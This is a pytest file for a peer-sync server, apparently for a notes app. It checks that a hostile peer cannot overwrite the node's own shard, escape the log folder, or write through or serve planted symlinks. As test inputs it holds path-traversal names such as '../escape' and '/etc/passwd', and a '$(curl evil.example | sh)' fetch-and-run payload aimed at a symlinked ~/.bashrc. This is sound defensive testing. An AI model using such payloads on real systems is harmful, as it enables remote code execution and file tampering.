"""What a peer (or a bucket listing, or a link planted in a synced folder) can make this node write or serve: never
its own shard, never a line under another writer's name, never a file outside the log folder or behind a link."""

from __future__ import annotations

import hashlib
import json
import os
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import anyio
import httpx2
import pytest

from hivenote.server.sync.peerbook import add_peer, load_peers
from hivenote.server.sync.pull import Puller
from hivenote.server.sync.replica import Replicas, SyncRefused, check_node_name
from hivenote.server.sync.status import SyncStatus
from hivenote.server.tokens import new_token
from tests.support.internals import replace
from tests.support.live import Running, fetch, serve
from tests.support.peer_inprocess import Hostile, hostile_peer

OWN = "puller-0001"
HOSTILE_NAMES = [
    "../escape",
    "..",
    "a/../../b",
    "/etc/passwd",
    "C:\\Windows\\x",
    "a\\..\\b",
    "nul\x00byte",
    ".hidden",
    "-flag",
    "x" * 101,
    "",
    "a b",
    "line\nbreak",
    "trailing-newline\n",
]


def lines(node: str, seqs: range = range(1, 4), writer: str | None = None) -> bytes:
    ops = ({"v": 1, "node": writer or node, "seq": n, "hlc": [n, 0], "op": "x"} for n in seqs)
    return b"".join(json.dumps(op).encode() + b"\n" for op in ops)


@dataclass
class Pulling:
    """A puller over its own data dir (the real Puller, Replicas and peers.json), one exchange at a time."""

    data_dir: Path
    status: SyncStatus = field(default_factory=SyncStatus)

    @property
    def log(self) -> Path:
        return self.data_dir / "log"

    def exchange(self, url: str) -> bool:
        async def one() -> bool:
            async with httpx2.AsyncClient(timeout=10) as http:
                puller = Puller(self.data_dir, Replicas(self.log, OWN), self.status, http)
                puller.book = load_peers(self.data_dir)
                return await puller.exchange(puller.book.peers[url])

        return anyio.run(one)

    def error(self, url: str) -> str:
        return str(next(s for s in self.status.snapshot() if s["target"] == url)["error"])


def files_under(root: Path) -> dict[str, bytes]:
    return {str(p.relative_to(root)): p.read_bytes() for p in sorted(root.rglob("*")) if p.is_file()}


def pull_from(tmp_path: Path, shards: dict[str, bytes], listing: Any = None) -> tuple[Pulling, str, bool]:
    pulling = Pulling(tmp_path / "puller")
    pulling.log.mkdir(parents=True)
    own = lines(OWN, range(1, 3))
    (pulling.log / f"{OWN}.jsonl").write_bytes(own)
    with hostile_peer(Hostile(shards=shards, listing=listing)) as peer:
        add_peer(pulling.data_dir, peer.url, new_token())
        ok = pulling.exchange(peer.url)
    assert (pulling.log / f"{OWN}.jsonl").read_bytes() == own
    return pulling, peer.url, ok


def test_a_peer_cannot_write_our_own_shard_nor_lines_in_our_name(tmp_path: Path) -> None:
    shards = {OWN: lines(OWN, range(1, 9)), "other-0002": lines("other-0002", writer=OWN)}
    pulling, url, ok = pull_from(tmp_path, shards)
    assert not ok and "says it was written by 'puller-0001'; refused" in pulling.error(url)
    # Our shard is untouched (pull_from checks it); a history of our node we never wrote is kept beside it as
    # evidence of a clone (folded, and the store moves to a new node id), never appended to ours.
    assert [n for n in files_under(pulling.log) if "~" not in n] == [f"{OWN}.jsonl"]
    assert [v for n, v in files_under(pulling.log).items() if "~" in n] == [shards[OWN]]


@pytest.mark.parametrize("variant", ["PULLER-0001", "Puller-0001", "pULLER-0001"])
def test_a_peer_cannot_reach_our_own_shard_by_changing_the_case_of_its_name(tmp_path: Path, variant: str) -> None:
    """On macOS and Windows `PULLER-0001.jsonl` *is* puller-0001.jsonl: the name is ours whatever its case."""
    pulling, _, _ = pull_from(tmp_path, {variant: lines(variant, range(1, 9))})
    assert [n for n in files_under(pulling.log) if "~" not in n] == [f"{OWN}.jsonl"]
    replicas = Replicas(pulling.log, OWN)
    with pytest.raises(SyncRefused, match="this machine's own shard"):
        replicas.append(variant, lines(variant), 0)
    with pytest.raises(SyncRefused, match="this machine's own shard"):
        replace(replicas, variant, lines(variant))


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_a_shard_name_from_a_listing_never_names_a_file_outside_the_log_folder(tmp_path: Path, name: str) -> None:
    with pytest.raises(SyncRefused, match="is not a node name"):
        check_node_name(name)  # what the bucket transport checks each folder name of a listing with
    with pytest.raises(SyncRefused):
        Replicas(tmp_path / "log", OWN).append(name, lines(name), 0)
    listing = {"node": "hostile-0001", "shards": {name: {"size": 10, "head": "", "seq": 3}}, "peers": []}
    pulling, _, _ = pull_from(tmp_path, {}, listing)
    assert sorted(files_under(pulling.log)) == [f"{OWN}.jsonl"]
    assert all(p.startswith("puller/") for p in files_under(tmp_path))


def test_a_link_planted_in_the_log_folder_is_never_written_through(tmp_path: Path) -> None:
    """A synced folder can carry symbolic links (Syncthing, git). A link `victim-0003.jsonl` -> ~/.bashrc, whose
    first line is well known, and a peer offering that line followed by more: nothing may be appended to ~/.bashrc."""
    known = b"# ~/.bashrc: executed by bash(1) for non-login shells.\n"
    target = tmp_path / "bashrc"
    target.write_bytes(known + b"alias ll='ls -l'\n")
    pulling = Pulling(tmp_path / "puller")
    pulling.log.mkdir(parents=True)
    (pulling.log / "victim-0003.jsonl").symlink_to(target)
    offered = known + b'{"node": "victim-0003", "seq": 9, "x": "$(curl evil.example | sh)"}\n'
    summary = {"size": len(offered), "head": hashlib.sha256(known).hexdigest(), "seq": 9}  # our first line's hash
    listing = {"node": "hostile-0001", "shards": {"victim-0003": summary}}
    with hostile_peer(Hostile(shards={"victim-0003": offered}, listing=listing)) as peer:
        add_peer(pulling.data_dir, peer.url, new_token())
        assert not pulling.exchange(peer.url)
        assert "is a symbolic link, not a shard" in pulling.error(peer.url)
    assert target.read_bytes() == known + b"alias ll='ls -l'\n"


@pytest.fixture
def running(tmp_path: Path) -> Iterator[Running]:
    with serve(tmp_path / "data") as server:
        yield server


def test_a_link_planted_in_the_log_folder_is_never_served_to_peers(running: Running, tmp_path: Path) -> None:
    secret = tmp_path / "secret.jsonl"
    secret.write_text(json.dumps({"node": "victim-0003", "key": "sk-live-123"}) + "\n", encoding="utf-8")
    assert running.store.shard_path is not None
    os.symlink(secret, running.store.shard_path.parent / "victim-0003.jsonl")
    auth = {"Authorization": f"Bearer {running.token}"}
    status, _, listing = fetch(f"{running.url}/sync/shards", auth)
    assert status == 200 and "victim-0003" not in listing["shards"]
    request = f"{running.url}/sync/shards/victim-0003?offset=0"
    status, _, body = fetch(request, auth)
    assert (status, body["error"]["code"]) == (404, "not_found")
